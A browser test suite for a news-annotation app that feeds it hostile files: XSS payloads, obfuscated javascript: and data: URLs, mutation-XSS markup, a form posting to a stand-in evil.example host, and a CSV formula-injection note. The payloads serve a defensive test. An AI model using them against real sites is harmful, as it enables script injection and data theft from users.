// Hostile and faulty input, table-driven, in real headless Chromium. Each case brings a file
// (annotations, a web page, Markdown, a page shaped like one newsmark exported) or does
// something to the app, then expects: a message that says what and where, the app still
// usable, the annotation saved before it still saved, and no script run (a sentinel global
// never set, no dialog, no request leaving the page's server, no securitypolicyviolation,
// which the harness fails on). The longest main-thread task of each case is printed (a freeze
// of over 2 s fails it; the figures themselves are for reading, not asserting).
import { test, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { useApp } from './harness.mjs';
import { selectText } from './actions.mjs';

const session = useApp();
let page;
const scratch = mkdtempSync(join(tmpdir(), 'newsmark-hostile-'));

/** Sets the sentinel: what a payload that ran would do. */
const RUN = "window.__hostile=1";
const XSS = `<img src=x onerror="${RUN};alert(1)"><script>${RUN};alert(2)</script><svg onload="${RUN}">`;
const EVIL = 'http://evil.example';

const ann = ({ id = 'urn:uuid:00000000-0000-4000-8000-000000000001', exact = 'potential trigger for direct geopolitical conflict', prefix, suffix, start, end, tag = 'claim', note, extra = {} } = {}) => {
  const selector = [{ type: 'TextQuoteSelector', exact, ...(prefix === undefined ? {} : { prefix }), ...(suffix === undefined ? {} : { suffix }) }];
  if (start !== undefined) selector.push({ type: 'TextPositionSelector', start, end });
  const body = [{ type: 'TextualBody', purpose: 'tagging', value: tag }];
  if (note !== undefined) body.push({ type: 'TextualBody', purpose: 'commenting', value: note });
  return { '@context': 'http://www.w3.org/ns/anno.jsonld', id, type: 'Annotation', body, target: { source: 'urn:x:a', selector }, ...extra };
};
const many = (n, make) => Array.from({ length: n }, (_, i) => make(i));
const uuid = (i) => `urn:uuid:00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
const json = (value) => JSON.stringify(value);
const page_ = (body, head = '') => `<!doctype html><html><head><meta charset="utf-8"><title>Port closes after storm</title>${head}</head><body><article><h1>Port closes after storm</h1>${body}<p>The port closed on Monday after the storm damaged two cranes, officials said, and it is expected to reopen on Thursday when the wind drops.</p></article></body></html>`;
const ARTICLE = /The port closed on Monday after the storm/;

/** The files of the cases: name → content (string or Buffer). */
const CASES = [
  // Annotation files.
  { name: 'not JSON', file: ['notes.json', 'this is { not json'], says: /not valid JSON/ },
  { name: 'an empty file', file: ['empty.json', ''], says: /empty/ },
  { name: 'a byte-order mark before the JSON', file: ['bom.json', `\uFEFF${json([ann()])}`], says: /1 (exact|moved)/ },
  { name: 'a trailing comma', file: ['comma.json', `[${json(ann())},]`], says: /not valid JSON/ },
  { name: 'NaN', file: ['nan.json', `[{"id": NaN}]`], says: /not valid JSON/ },
  { name: '100,000-deep nesting', file: ['deep.json', `${'['.repeat(100000)}${']'.repeat(100000)}`], says: /not valid JSON.*recursion limit/ },
  { name: 'a 30 MB file', file: ['big.json', Buffer.alloc(30 * 1024 * 1024, 0x20)], says: /30\.0 MB: newsmark opens files up to 10 MB/ },
  { name: 'wrong types', file: ['types.json', json([ann({ id: 'urn:x:1', tag: 7 }), { ...ann({ id: 'urn:x:2' }), target: 42 }, ann({ id: 'urn:x:3' })])], says: /\[0\]\.body\[0\]\.value: must be a string/, also: /1 (exact|moved)/ },
  { name: 'reversed offsets', file: ['reversed.json', json([ann({ start: 400, end: 10 })])], says: /TextPositionSelector|1 (exact|moved)/ },
  { name: 'offsets past the end', file: ['past.json', json([ann({ start: 9e15, end: 9e15 + 50 })])], says: /1 (exact|moved)/ },
  { name: 'offsets inside a surrogate pair', file: ['pair.json', json([ann({ exact: 'AI', start: 1.5, end: 3 })])], says: /non-negative integer|1 (exact|moved|ambiguous)/ },
  { name: 'duplicate ids in the file', file: ['twice.json', json([ann(), ann({ note: 'other content' })])], says: /1 (exact|moved) · 1 already here/ },
  { name: 'an id colliding with the saved one', file: ['collide.json', () => json([ann({ id: session.savedId, exact: 'China', note: 'other content' })])], says: /1 already here/ },
  { name: '10,000 annotations on one word', file: ['many.json', json(many(10000, (i) => ann({ id: uuid(i), exact: 'AI', prefix: 'U.S.-China ', suffix: ' talks needed', start: 21, end: 23 })))], says: /10000 exact/, slow: true, tagAfter: 'arms race fears rise' },
  { name: 'an empty quote', file: ['empty-quote.json', json([ann({ exact: '' })])], says: /exact.*empty|must not be empty|non-empty/ },
  { name: 'a quote longer than the article', file: ['long-quote.json', json([ann({ exact: 'The article, and then some. '.repeat(400) })])], says: /1 orphaned/ },
  { name: 'NUL and control characters', file: ['control.json', json([ann({ note: 'a\u0000b\u0007c\u001bd' })])], says: /1 (exact|moved)/, shows: 'a\u0000b\u0007c\u001bd' },
  { name: 'lone surrogates', file: ['surrogate.json', `[${json(ann({ note: 'SURROGATE' })).replace('SURROGATE', 'broken \\ud800 here')}]`], says: /1 (exact|moved) · 1 mended/, also: /\[0\]: a broken character/ },
  { name: 'markup in notes', file: ['markup.json', json([ann({ note: XSS })])], says: /1 (exact|moved)/, shows: XSS },
  { name: 'a 1 MB note', file: ['huge-note.json', json([ann({ note: 'x'.repeat(1024 * 1024) })])], says: /note.*(long|characters)|1 (exact|moved)/ },
  { name: 'bidi overrides and zero-width characters', file: ['bidi.json', json([ann({ note: '\u202Egnp.exe\u202C \u200B\u200D\u2066x\u2069' })])], says: /1 (exact|moved)/ },
  { name: 'built-in property names as tags', file: ['proto.json', json([ann({ id: 'urn:x:a', tag: 'constructor' }), ann({ id: 'urn:x:b', tag: '__proto__', exact: 'Melanie Hart' }), ann({ id: 'urn:x:c', tag: 'toString', exact: 'Atlantic Council' })])], says: /3 moved/, list: /constructor.*__proto__|__proto__.*constructor/s, never: /native code|object Object/ },
  { name: 'built-in property names as ids', file: ['proto-ids.json', json([ann({ id: '__proto__' }), ann({ id: 'constructor:x', exact: 'Melanie Hart' })])], says: /\[0\]\.id: id "__proto__" is not an absolute IRI/, also: /1 (exact|moved)/ },
  { name: 'javascript: ids', file: ['js-id.json', json([ann({ id: 'javascript:alert(1)' }), ann({ id: 'data:text/html,x', exact: 'China' })])], says: /is a javascript: address/, also: /is a data: address/ },
  { name: '50,000 invalid entries', file: ['invalid.json', json(many(50000, (i) => ({ id: `bad ${i}`, type: 'Annotation' })))], says: /50000 not readable/, also: /and 49900 more/, slow: true },
  { name: 'a Hypothesis export with a javascript: link', file: ['hypothesis.json', json({ export_date: '2026-11-30T00:00:00Z', annotations: [{ id: 'abc', links: { html: 'javascript:alert(1)' }, text: 'n', tags: ['claim'], target: [{ selector: [{ type: 'TextQuoteSelector', exact: 'China' }] }] }] })], says: /javascript: address/ },

  // Web pages.
  { name: 'scripts and inline handlers', file: ['scripts.html', page_(`<p onclick="${RUN}">${XSS}Click</p><script>${RUN}</script><body onload="${RUN}">`)], article: ARTICLE },
  { name: 'obfuscated javascript: URLs', file: ['js-urls.html', page_(`<a href="jav&#x09;ascript:${RUN}">a</a><a href=" JaVaScRiPt:${RUN}">b</a><a href="&#106;avascript:${RUN}">c</a>`, `<link rel="canonical" href="javascript:${RUN}">`)], article: ARTICLE },
  { name: 'data: and vbscript: URLs', file: ['data-urls.html', page_(`<a href="data:text/html,<script>${RUN}</script>">d</a><a href="vbscript:msgbox(1)">v</a><iframe src="data:text/html,<script>${RUN}</script>"></iframe>`, `<meta property="og:url" content="data:text/html,x">`)], article: ARTICLE },
  { name: 'iframe srcdoc', file: ['srcdoc.html', page_(`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`)], article: ARTICLE },
  { name: 'object and embed', file: ['object.html', page_(`<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf">`)], article: ARTICLE },
  { name: 'base', file: ['base.html', page_('<a href="/x">x</a>', `<base href="${EVIL}/">`)], article: ARTICLE },
  { name: 'meta refresh', file: ['refresh.html', page_('', `<meta http-equiv="refresh" content="0;url=${EVIL}/">`)], article: ARTICLE },
  { name: 'a form', file: ['form.html', page_(`<form action="${EVIL}/steal" method="post"><input name="x" value="y"><button>Go</button></form>`)], article: ARTICLE, never: /\bGo\b/ },
  { name: 'SVG and MathML mutation-XSS shapes', file: ['mxss.html', page_(`<svg><p><style><img src=x onerror="${RUN}"></style></p></svg><math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`)], article: ARTICLE },
  // Parsed with scripting off, the rest of this page stays inside the noscript (a reader's
  // browser would show it): no article, and said so; nothing runs either way.
  { name: 'a noscript attribute breakout', file: ['noscript.html', page_(`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`)], says: /Opened noscript\.html|no article text/ },
  { name: 'noscript, template, noembed, noframes', file: ['hidden.html', page_('<noscript><p>NOSCRIPT TEXT</p></noscript><template><p>TEMPLATE TEXT</p></template><noembed><p>NOEMBED TEXT</p></noembed><noframes><p>NOFRAMES TEXT</p></noframes>')], article: ARTICLE, never: /NOSCRIPT|TEMPLATE|NOEMBED|NOFRAMES/ },
  { name: 'remote images, CSS url() and srcset', file: ['remote.html', page_(`<img src="${EVIL}/a.png"><img srcset="${EVIL}/b.png 2x"><picture><source srcset="${EVIL}/c.png"></picture><div style="background:url(${EVIL}/d.png)">styled</div><style>p{background:url(${EVIL}/e.png)}</style>`, `<link rel="stylesheet" href="${EVIL}/f.css">`)], article: ARTICLE },
  { name: 'a 100,000-deep page', file: ['deep.html', `<!doctype html><title>Deep</title><body>${'<div>'.repeat(100000)}<p>The council met on Monday and voted to approve the budget for next year after a long debate.</p>${'</div>'.repeat(100000)}`], says: /100,000 levels deep/, article: /voted to approve the budget/, slow: true },
  { name: 'self-closed and stray tags 100,000 deep', file: ['selfclosed.html', `<!doctype html><title>Deep</title><body>${'<div/><span x=/></b>'.repeat(50000)}<p>The council met on Monday and voted to approve the budget for next year after a long debate.</p>`], says: /100,000 levels deep/, article: /voted to approve the budget/, slow: true },
  { name: 'a page ending inside a tag, 400,000 times over', file: ['unterminated.html', `${page_('')}${'<a '.repeat(400000)}`], article: ARTICLE, slow: true },
  { name: 'a 20 MB page', file: ['huge.html', Buffer.from(`<!doctype html><p>${'word '.repeat(4 * 1024 * 1024)}</p>`)], says: /20\.0 MB: newsmark opens files up to 10 MB/ },
  { name: 'a page with no text', file: ['blank.html', '<!doctype html><html><head><title>x</title></head><body><div></div></body></html>'], says: /no article text/ },
  { name: 'a binary renamed .html', file: ['photo.html', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13])], says: /image or a binary document/ },
  { name: 'a UTF-16 page', file: ['utf16.html', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page_('<p>Café au lait, naïve façade.</p>'), 'utf16le')])], article: /Café au lait, naïve façade/ },
  { name: 'a legacy encoding', file: ['cp1251.html', Buffer.concat([Buffer.from('<!doctype html><meta charset="windows-1251"><title>News</title><article><h1>News</h1><p>'), Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2]), Buffer.from(' - the council met on Monday and voted to approve the budget for next year.</p></article>')])], article: /Привет - the council met/ },

  // Markdown and text.
  { name: 'Markdown with raw HTML and javascript: links', file: ['story.md', `# Storm closes port\n\nThe port closed on Monday after the storm, [officials said](javascript:${RUN}).\n\n${XSS}\n\n<iframe src="${EVIL}"></iframe>\n\nIt reopens on Thursday.\n`], article: /officials said/, never: /onerror|<script/ },
  { name: 'plain text with markup', file: ['story.txt', `Storm closes port\n\n${XSS} The port closed on Monday after the storm damaged two cranes.\n`], article: /<img src=x onerror=/ },

  // Pages shaped like newsmark's own exports.
  { name: 'a crafted page with a javascript: source', fromExport: true, file: ['crafted.html', () => session.craftedPage], says: /not a web address/, exportNever: /javascript:/i },
  { name: 'a crafted page breaking out of its data block', fromExport: true, file: ['breakout.html', () => session.exportedPage.replace('"version":1', `"version":1,"x":"</script><script>${RUN}</script>"`)], says: /breakout\.html: the article is not readable/ },

  // Editing and export.
  { name: 'a note that is a spreadsheet formula, exported as CSV', edit: '=HYPERLINK("http://evil.example","click")', csv: /'=HYPERLINK/ },
];

beforeEach(async () => {
  ({ page } = session);
  // A saved annotation with a note: every case must leave it saved.
  await selectText(page, 'officials seek an AI communications channel');
  await page.keyboard.press('1');
  const note = page.getByRole('textbox', { name: 'Note' });
  await note.fill('saved before the hostile file');
  await note.blur();
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => document.querySelector('#save-state').textContent === 'Saved in this browser');
  session.savedId = await page.evaluate(() => document.querySelector('#annotations li[data-id]').dataset.id);
  // What a payload that ran would leave behind.
  session.requests = [];
  session.dialogs = [];
  page.on('request', (r) => !r.url().startsWith(session.server.url) && !/^(data|blob):/.test(r.url()) && session.requests.push(r.url()));
  page.on('dialog', (d) => (session.dialogs.push(d.message()), d.dismiss()));
  await page.evaluate(() => {
    window.__hostile = 0;
    window.__tasks = [];
    new PerformanceObserver((l) => l.getEntries().forEach((e) => window.__tasks.push(e.duration))).observe({ type: 'longtask' });
  });
});

/** What the page says: the status line, the notice, the banner and its list. */
const SAID = () => ['#status', '#notice', '#banner'].map((s) => document.querySelector(s)).filter((el) => el && !el.hidden && el.checkVisibility()).map((el) => el.textContent).join(' | ');
const said = () => page.evaluate(SAID);

/** Resolves once `check()` holds, polling; rejects after `ms`. */
async function until(check, ms) {
  for (const end = Date.now() + ms; Date.now() < end; await new Promise((r) => setTimeout(r, 50))) if (await check()) return;
  throw new Error('timed out');
}

/** What the export button `selector` downloads (opening the ⋯ menu for those in it). */
async function exported(selector) {
  if (!(await page.locator(selector).isVisible())) await page.locator('summary[aria-label="More exports"]').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator(selector).click()]);
  const chunks = [];
  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
  await page.keyboard.press('Escape');
  return Buffer.concat(chunks).toString('utf8');
}

const exportPageAndJson = async () => `${await exported('#export-json')}\n${await exported('#export-page')}`;

for (const c of CASES) {
  test(`hostile: ${c.name}`, { timeout: c.slow ? 120_000 : 60_000 }, async () => {
    if (c.fromExport) {
      // A real exported page of the demo, then its article data given a javascript: source.
      session.exportedPage = await exported('#export-page');
      session.craftedPage = session.exportedPage.replace('{"version":1,', `{"version":1,"source_url":"javascript:${RUN}",`);
      assert.notEqual(session.craftedPage, session.exportedPage);
    }
    const started = Date.now();
    if (c.file) {
      const [name, content] = c.file;
      const body = typeof content === 'function' ? content() : content;
      // From a file on disk, as a reader's would be (a buffer would be copied in by the page).
      const path = join(scratch, name);
      writeFileSync(path, body);
      await page.setInputFiles('#import-file', path);
    }
    if (c.edit) {
      await selectText(page, 'Melanie Hart');
      await page.keyboard.press('2');
      await page.getByRole('textbox', { name: 'Note' }).fill(c.edit);
      await page.getByRole('textbox', { name: 'Note' }).blur();
    }
    if (c.says) await until(async () => c.says.test(await said()), c.slow ? 60_000 : 15_000).catch(async () => assert.fail(`expected ${c.says} but the page says: ${await said()}`));
    if (c.article) await page.waitForFunction((re) => new RegExp(re).test(document.querySelector('article')?.textContent ?? ''), c.article.source, { timeout: 30_000 }).catch(async () => assert.fail(`expected the article ${c.article}; the page says: ${await said()}`));
    if (c.also) assert.match(await said(), c.also);
    const took = Date.now() - started;
    // Everything settled: writes done, nothing left running.
    await page.waitForFunction(() => !/Saving/.test(document.querySelector('#save-state').textContent), null, { timeout: 60_000 });
    await page.waitForTimeout(300);

    if (c.shows !== undefined) {
      await page.locator('#annotations li[data-id]').filter({ hasNotText: 'officials seek' }).first().click();
      assert.equal(await page.getByRole('textbox', { name: 'Note' }).inputValue(), c.shows, 'the note is kept as it came, as text');
      await page.keyboard.press('Escape');
    }
    if (c.list) assert.match(await page.locator('#annotations').textContent(), c.list);
    if (c.tagAfter) {
      // One more passage tagged: listed, selected and scrolled to in the list (far past the
      // items drawn, it is brought into view just after the frame that answers the key).
      await selectText(page, c.tagAfter);
      await page.keyboard.press('2');
      const item = page.locator('#annotations li.selected', { hasText: c.tagAfter });
      await item.waitFor();
      await page.waitForFunction(() => {
        const [li, list] = [document.querySelector('#annotations li.selected'), document.querySelector('#annotations')];
        const [a, b] = [li.getBoundingClientRect(), list.getBoundingClientRect()];
        return a.top >= b.top - 1 && a.bottom <= b.bottom + 1;
      }, null, { timeout: 5000 });
      assert.match(await item.locator('.chip').first().textContent(), /Accusation/);
    }
    const everything = await page.evaluate(() => document.body.innerText);
    if (c.never) assert.doesNotMatch(everything, c.never);
    if (c.csv) assert.match(await exported('#export-csv'), c.csv);
    if (c.exportNever) assert.doesNotMatch(await exportPageAndJson(), c.exportNever);

    // No script ran, nothing left the page, the app still answers, the saved work is saved.
    assert.equal(await page.evaluate(() => window.__hostile), 0, 'no payload ran');
    assert.deepEqual(session.dialogs, [], 'no dialog opened');
    assert.deepEqual(session.requests, [], 'no request left the page');
    const stored = await page.evaluate((id) => Object.keys(localStorage).filter((k) => k.startsWith('newsmark:ann:') && k.endsWith(id)).map((k) => JSON.parse(localStorage.getItem(k)).annotation?.note), session.savedId);
    assert.deepEqual(stored, ['saved before the hostile file'], 'the annotation saved before is still saved');
    await page.getByRole('button', { name: 'Library' }).click();
    await page.getByRole('dialog', { name: 'Library' }).waitFor();
    await page.keyboard.press('Escape');
    const longest = Math.round(Math.max(0, ...(await page.evaluate(() => window.__tasks))));
    console.log(`# ${c.name}: ${took} ms, longest task ${longest} ms`);
    assert.ok(longest < 2000, `the page froze for ${longest} ms`);
  });
}

test('the table holds at least 40 cases', () => assert.ok(CASES.length >= 40, `${CASES.length} cases`));
